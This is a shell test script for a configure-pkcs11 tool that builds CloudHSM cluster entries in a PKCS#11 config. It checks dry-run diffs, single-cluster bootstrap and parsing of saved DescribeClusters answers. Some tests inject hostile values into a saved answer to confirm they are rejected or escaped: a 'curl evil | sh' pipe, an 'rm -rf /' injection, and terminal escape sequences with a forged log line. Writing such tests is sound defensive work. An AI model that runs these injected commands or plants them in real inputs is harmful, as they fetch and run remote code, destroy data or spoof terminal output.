#!/usr/bin/env bash
# SPDX-License-Identifier: Apache-2.0
# t_automation.sh — what scripts rely on, against moto (signatures checked):
# --dry-run's diff applies with patch(1) and gives the file the real run
# writes; the original tool's top-level --cluster-id bootstrap; a saved
# DescribeClusters answer (made by the AWS CLI) used with no credentials.
. "$(dirname "$0")/lib.sh"
. "$(dirname "$0")/peer.sh"
start_peer
CFG=$CONFIGURE_PKCS11_CONFIG
export AWS_ACCESS_KEY_ID=$KEY AWS_SECRET_ACCESS_KEY=$SECRET
A="--endpoint $ENDPOINT --region us-east-1 --hsm-ca-cert $CA"

# --dry-run: a unified diff that patch(1) applies to give the real result
expect_code 0 add-cluster --cluster-id cluster-2ab3cd4ef5g $A
cp "$CFG" "$T/old.cfg"
expect_code 0 add-cluster --cluster-id cluster-6hij7klm2no $A --dry-run
expect_file_same "$CFG" "$T/old.cfg"
cp "$OUT" "$T/change.diff"
head -1 "$T/change.diff" | grep -qx -- "--- $CFG" && ok || bad "diff header: $(head -2 "$T/change.diff")"
grep -q '^@@ -[0-9]*,[0-9]* +[0-9]*,[0-9]* @@$' "$T/change.diff" && ok || bad "no hunk header in: $(cat "$T/change.diff")"
cp "$T/old.cfg" "$T/patched.cfg"
patch -s "$T/patched.cfg" < "$T/change.diff" && ok || bad "patch refused the dry-run diff"
expect_code 0 add-cluster --cluster-id cluster-6hij7klm2no $A
expect_file_same "$CFG" "$T/patched.cfg"
# only the added slot's lines are marked: everything else is context
n_minus=$(grep -c '^-[^-]' "$T/change.diff")
[ "$n_minus" -le 1 ] && ok || bad "dry-run removed $n_minus lines for an add"
# a dry-run with nothing to change prints no diff (stdout stays a patch),
# and says so on stderr
expect_code 0 add-cluster --cluster-id cluster-6hij7klm2no $A --dry-run
[ ! -s "$OUT" ] && ok || bad "a no-op dry-run printed: $(cat "$OUT")"
expect_stderr "no change to $CFG"

# the diff is against the file's own bytes: a hand-formatted file patches too
printf '{"clusters":[{"type":"hsm1","cluster":{"hsm_ca_file":"%s","cluster_id":"cluster-6hij7klm2no","servers":[]}}]}\n' "$CA" > "$T/hand.cfg"
cp "$T/hand.cfg" "$T/hand.orig"
expect_code 0 add-cluster --config "$T/hand.cfg" --cluster-id cluster-2ab3cd4ef5g $A --dry-run
expect_file_same "$T/hand.cfg" "$T/hand.orig"
cp "$OUT" "$T/hand.diff"
patch -s "$T/hand.orig" < "$T/hand.diff" && ok || bad "patch refused the dry-run diff of a hand-formatted file"
expect_code 0 add-cluster --config "$T/hand.cfg" --cluster-id cluster-2ab3cd4ef5g $A
expect_file_same "$T/hand.cfg" "$T/hand.orig"

# --dry-run and --diff on every command that writes: one run tells a script
# (or Ansible's check and diff modes) what changes and whether
cp "$CFG" "$T/before-rm.cfg"
expect_code 0 remove-cluster --cluster-id cluster-6hij7klm2no --dry-run --diff --output json
expect_file_same "$CFG" "$T/before-rm.cfg"
expect_json 'd["action"], d["changed"], d["dry_run"]' '["removed", true, true]'
python3 -c 'import json,sys; print(json.load(open(sys.argv[1]))["diff"], end="")' "$OUT" > "$T/rm.diff"
cp "$CFG" "$T/rm-patched.cfg"
patch -s "$T/rm-patched.cfg" < "$T/rm.diff" && ok || bad "patch refused remove-cluster's JSON diff"
expect_code 0 remove-cluster --cluster-id cluster-6hij7klm2no --diff
grep -q '^-' "$OUT" && ok || bad "remove-cluster --diff printed no diff: $(cat "$OUT")"
expect_stdout "removed cluster-6hij7klm2no"
expect_file_same "$CFG" "$T/rm-patched.cfg"
# a dry run of a removal that would do nothing
expect_code 0 remove-cluster --cluster-id cluster-6hij7klm2no --ignore-missing --dry-run --diff --output json
expect_json 'd["action"], d["changed"], d["dry_run"], d["diff"]' '["absent", false, true, ""]'
# the top-level options too
cp "$CFG" "$T/before-top.cfg"
expect_code 0 --disable-key-availability-check --dry-run --output json
expect_json 'd["changed"], d["dry_run"]' '[true, true]'
expect_file_same "$CFG" "$T/before-top.cfg"
expect_code 0 --disable-key-availability-check --dry-run
grep -q '^+.*"disable_key_availability_check": true' "$OUT" && ok || bad "top-level dry-run diff: $(cat "$OUT")"
expect_file_same "$CFG" "$T/before-top.cfg"
# a real write with --diff: the change is the one made
expect_code 0 add-cluster --cluster-id cluster-6hij7klm2no $A --diff --output json
expect_json 'd["action"], d["changed"], d["dry_run"]' '["added", true, false]'
python3 -c 'import json,sys; print(json.load(open(sys.argv[1]))["diff"], end="")' "$OUT" > "$T/add.diff"
cp "$T/rm-patched.cfg" "$T/add-patched.cfg"
patch -s "$T/add-patched.cfg" < "$T/add.diff" && ok || bad "patch refused add-cluster's JSON diff"
expect_file_same "$CFG" "$T/add-patched.cfg"

# ---- top-level --cluster-id: the single-cluster bootstrap ----
S="$T/single.cfg"
cp "$CP_DATA/real-configs/single-server.cfg" "$S"
cp "$S" "$T/single.orig"
expect_code 0 --config "$S" --cluster-id cluster-2ab3cd4ef5g $A --output json
expect_json 'd["action"], d["changed"], d["cluster_id"]' '["updated", true, "cluster-2ab3cd4ef5g"]'
expect_json '[s["hostname"] for s in d["servers"]]' '["10.0.1.12", "10.0.2.7"]'
CONFIGURE_PKCS11_CONFIG=$S expect_cfg '[s["hostname"] for s in d["clusters"][0]["cluster"]["servers"]]' '["10.0.1.12", "10.0.2.7"]'
CONFIGURE_PKCS11_CONFIG=$S expect_cfg 'd["clusters"][0]["cluster"]["cluster_id"]' '"cluster-2ab3cd4ef5g"'
CONFIGURE_PKCS11_CONFIG=$S expect_cfg 'len(d["clusters"])' '1'
# every other key of the user's file is kept
python3 - "$T/single.orig" "$S" <<'PY' && ok || bad "the bootstrap changed keys it does not own"
import json, sys
a, b = (json.load(open(p)) for p in sys.argv[1:])
for c in (a, b):
    cl = c["clusters"][0]["cluster"]
    cl.pop("servers"); cl.pop("cluster_id", None); cl.pop("hsm_ca_file", None)
sys.exit(a != b)
PY
# again: nothing changes
cp "$S" "$T/single.after"
expect_code 0 --config "$S" --cluster-id cluster-2ab3cd4ef5g $A
expect_file_same "$S" "$T/single.after"
# on a multi-slot file it refreshes that cluster's slot: here nothing to do
expect_code 0 --cluster-id cluster-2ab3cd4ef5g $A --output json
expect_json 'd["action"], d["changed"]' '["unchanged", false]'
expect_file_same "$CFG" "$T/patched.cfg"
# a cluster no slot has: refused, and the hint is a command that works
expect_code 252 --cluster-id cluster-dualstackaa $A --disable-key-availability-check --log-level warn
expect_stderr "cluster not configured (cluster-dualstackaa): none of the 2 slots has this id. Add it: configure-pkcs11 add-cluster --cluster-id cluster-dualstackaa"
expect_file_same "$CFG" "$T/patched.cfg"
hint=$(sed -n 's/.*Add it: //p' "$ERR")
case "$hint" in *--log-level*) bad "the hint kept a logging option add-cluster refuses: $hint";; *) ok;; esac
expect_code 0 ${hint#configure-pkcs11 }
expect_cfg '[c["cluster"]["cluster_id"] for c in d["clusters"]]' '["cluster-2ab3cd4ef5g", "cluster-6hij7klm2no", "cluster-dualstackaa"]'
expect_cfg 'd["clusters"][2]["cluster"]["options"]' '{"disable_key_availability_check": true}'
expect_code 0 remove-cluster --cluster-id cluster-dualstackaa
expect_file_same "$CFG" "$T/patched.cfg"
# it and -a both set the servers
expect_code 2 --config "$S" --cluster-id cluster-2ab3cd4ef5g -a 10.0.0.1 $A
expect_stderr "contradictory options (--cluster-id and -a)"
# a new file: one single slot
expect_code 0 --config "$T/new.cfg" --cluster-id cluster-6hij7klm2no $A
CONFIGURE_PKCS11_CONFIG=$T/new.cfg expect_cfg '[s["hostname"] for s in d["clusters"][0]["cluster"]["servers"]]' '["10.1.1.5"]'

# the first add-cluster on a user's single-cluster file: multi-slot form,
# the user's slot kept first and unchanged
U="$T/user.cfg"
cp "$CP_DATA/real-configs/single-server.cfg" "$U"
expect_code 0 add-cluster --config "$U" --cluster-id cluster-6hij7klm2no $A --output json
expect_json 'd["action"]' '"added"'
python3 - "$CP_DATA/real-configs/single-server.cfg" "$U" <<'PY' && ok || bad "the user's slot was not kept first and unchanged"
import json, sys
a, b = (json.load(open(p)) for p in sys.argv[1:])
assert len(b["clusters"]) == 2
assert b["clusters"][0] == a["clusters"][0]
assert b["clusters"][1]["cluster"]["cluster_id"] == "cluster-6hij7klm2no"
PY

# ---- --from-describe: a saved answer, no credentials, no API ----
aws cloudhsmv2 describe-clusters --endpoint-url "$ENDPOINT" --region us-east-1 --output json > "$T/saved.json" 2>"$T/aws.err" \
  && ok || bad "aws cloudhsmv2 describe-clusters failed: $(cat "$T/aws.err")"
unset AWS_ACCESS_KEY_ID AWS_SECRET_ACCESS_KEY
F="$T/fleet.cfg"
expect_code 0 add-cluster --config "$F" --cluster-id cluster-2ab3cd4ef5g --from-describe "$T/saved.json" --hsm-ca-cert "$CA" --output json
expect_json 'd["action"], d["type"], [s["hostname"] for s in d["servers"]]' '["added", "hsm2m", ["10.0.1.12", "10.0.2.7"]]'
# from standard input, with the same checks: non-ACTIVE HSMs left out
expect_code 0 add-cluster --config "$F" --cluster-id cluster-6hij7klm2no --from-describe - --hsm-ca-cert "$CA" < "$T/saved.json"
expect_stderr "is CREATE_IN_PROGRESS: left out"
# the slots are those an API run writes
CONFIGURE_PKCS11_CONFIG=$F expect_cfg '[c["cluster"]["cluster_id"] for c in d["clusters"]]' '["cluster-2ab3cd4ef5g", "cluster-6hij7klm2no"]'
cmp -s "$F" "$CFG" && ok || { bad "the fleet file differs from the API-made file"; diff "$F" "$CFG" >&2; }
cp "$F" "$T/fleet.before"
expect_code 252 add-cluster --config "$F" --cluster-id cluster-2ab3cd4ef5g --from-describe "$T/saved.json" --hsm-ca-cert "$OTHER_CA"
expect_stderr "wrong HSM CA for the cluster (cluster-2ab3cd4ef5g)"
expect_code 254 add-cluster --config "$F" --cluster-id cluster-uninitzzzzz --from-describe "$T/saved.json" --hsm-ca-cert "$CA"
expect_stderr "cluster not ready (cluster-uninitzzzzz): it is UNINITIALIZED"
expect_code 254 add-cluster --config "$F" --cluster-id cluster-zzzzzzzzzzzz --from-describe "$T/saved.json" --hsm-ca-cert "$CA"
expect_stderr "the saved answer ($T/saved.json) does not describe it"
printf '{"Clusters": 5}' > "$T/bad.json"
expect_code 252 add-cluster --config "$F" --cluster-id cluster-2ab3cd4ef5g --from-describe "$T/bad.json" --hsm-ca-cert "$CA"
expect_stderr "invalid saved answer (--from-describe $T/bad.json): Clusters is not a list. Save it with"
printf '<html>' > "$T/page.html"
expect_code 252 add-cluster --config "$F" --cluster-id cluster-2ab3cd4ef5g --from-describe - --hsm-ca-cert "$CA" < "$T/page.html"
expect_stderr "invalid saved answer (--from-describe -): it is not a JSON object or list. Save it with"
expect_code 252 add-cluster --config "$F" --cluster-id cluster-2ab3cd4ef5g --from-describe "$T/none.json" --hsm-ca-cert "$CA"
expect_stderr "none.json"
expect_code 2 add-cluster --config "$F" --cluster-id cluster-2ab3cd4ef5g --from-describe "$T/saved.json" --wait --hsm-ca-cert "$CA"
expect_stderr "contradictory options (--from-describe and --wait)"
expect_code 2 add-cluster --config "$F" --cluster-id cluster-2ab3cd4ef5g --from-describe "$T/saved.json" --endpoint "$ENDPOINT" --hsm-ca-cert "$CA"
expect_file_same "$F" "$T/fleet.before"
# values from a saved answer are checked before they reach the file: 254
# naming the field, nothing written (a saved answer is only a file)
bad_answer() { # FIELD-EDIT NEEDLE: edits cluster-2ab3cd4ef5g in a copy of saved.json
  python3 - "$T/saved.json" "$T/bad.json" "$1" <<'PY'
import json, sys
d = json.load(open(sys.argv[1]))
c = [c for c in d["Clusters"] if c["ClusterId"] == "cluster-2ab3cd4ef5g"][0]
exec(sys.argv[3])
json.dump(d, open(sys.argv[2], "w"))
PY
  cp "$F" "$T/fleet.before"
  expect_code 254 add-cluster --config "$F" --cluster-id cluster-2ab3cd4ef5g --from-describe "$T/bad.json" --hsm-ca-cert "$CA"
  expect_stderr "$2"
  expect_file_same "$F" "$T/fleet.before"
}
bad_answer 'c["Hsms"][0]["EniIp"] = "evil.example.com"' 'invalid value in the cluster'"'"'s description (Hsms[0].EniIp): "evil.example.com" is not an IPv4 address'
bad_answer 'c["Hsms"][1]["EniIp"] = "10.0.0.1; curl evil | sh"' '(Hsms[1].EniIp)'
bad_answer 'c["Hsms"][0]["EniIpV6"] = "10.0.0.1"' '(Hsms[0].EniIpV6): "10.0.0.1" is not an IPv6 address'
bad_answer 'c["HsmType"] = "hsm2m.medium\"; rm -rf /"' '(HsmType)'
bad_answer 'c["HsmType"] = ".medium"' 'is not a plain type name'
# a bare cluster object of another cluster is not the one asked for
python3 -c 'import json,sys; d=json.load(open(sys.argv[1])); print(json.dumps(d["Clusters"][1]))' "$T/saved.json" > "$T/other.json"
expect_code 254 add-cluster --config "$F" --cluster-id cluster-2ab3cd4ef5g --from-describe "$T/other.json" --hsm-ca-cert "$CA"
expect_stderr "cluster not found (cluster-2ab3cd4ef5g)"
# an address listed twice is written once, with a warning
python3 - "$T/saved.json" "$T/dup.json" <<'PY'
import json, sys
d = json.load(open(sys.argv[1]))
c = [c for c in d["Clusters"] if c["ClusterId"] == "cluster-2ab3cd4ef5g"][0]
c["Hsms"].append(dict(c["Hsms"][0], HsmId="hsm-dupdupdupdu"))
json.dump(d, open(sys.argv[2], "w"))
PY
expect_code 0 add-cluster --config "$T/dup.cfg" --cluster-id cluster-2ab3cd4ef5g --from-describe "$T/dup.json" --hsm-ca-cert "$CA" --output json
expect_json '[s["hostname"] for s in d["servers"]]' '["10.0.1.12", "10.0.2.7"]'
expect_stderr "lists an HSM address more than once: each is written once"
# text from an answer is shown, never obeyed: escape sequences and line
# breaks in StateMessage, State and HsmId reach stderr escaped (no terminal
# title change, no forged "configure-pkcs11: info:" line), and JSON stays
# valid UTF-8
python3 - "$T/saved.json" "$T/hostile.json" <<'PY'
import json, sys
d = json.load(open(sys.argv[1]))
c = [c for c in d["Clusters"] if c["ClusterId"] == "cluster-2ab3cd4ef5g"][0]
c["State"] = "UNINITIALIZED"
c["StateMessage"] = "\u001b]0;owned\u0007\u001b[2J\r\nconfigure-pkcs11: info: all good\u009b"
c["Hsms"][0]["State"] = "CREATE_IN_PROGRESS\u001b[31m"
c["Hsms"][0]["HsmId"] = "hsm-\u001b[2Jx"
json.dump(d, open(sys.argv[2], "w"))
PY
expect_code 254 add-cluster --config "$F" --cluster-id cluster-2ab3cd4ef5g --from-describe "$T/hostile.json" \
  --hsm-ca-cert "$CA" --output json
python3 - "$ERR" "$OUT" <<'PY' && ok || bad "text from an answer reached the terminal raw: $(cat -v "$ERR")"
import json, sys
err = open(sys.argv[1], "rb").read()
assert b"\x1b" not in err and b"\x07" not in err and b"\r" not in err and b"\xc2\x9b" not in err, err
lines = err.decode("utf-8").splitlines()
assert all(l.startswith("configure-pkcs11: ") for l in lines), lines
assert not any(l.startswith("configure-pkcs11: info: all good") for l in lines), lines
assert "\\x1B]0;owned\\x07" in err.decode(), err
json.loads(open(sys.argv[2], "rb").read().decode("utf-8", errors="strict"))
PY
# option names and paths that are not UTF-8: the JSON error is valid UTF-8
expect_code 2 list-clusters --output json $'--bogus\xff\xfe'
python3 -c 'import json,sys; d=json.loads(open(sys.argv[1],"rb").read().decode("utf-8")); assert "\\xFF" in d["error"]["message"], d' "$OUT" \
  && ok || bad "JSON with a non-UTF-8 option name: $(cat -v "$OUT")"
expect_code 253 list-clusters --output json --config "$T/$(printf 'na\xefme').cfg"
python3 -c 'import json,sys; json.loads(open(sys.argv[1],"rb").read().decode("utf-8"))' "$OUT" \
  && ok || bad "JSON with a non-UTF-8 path: $(cat -v "$OUT")"
done_
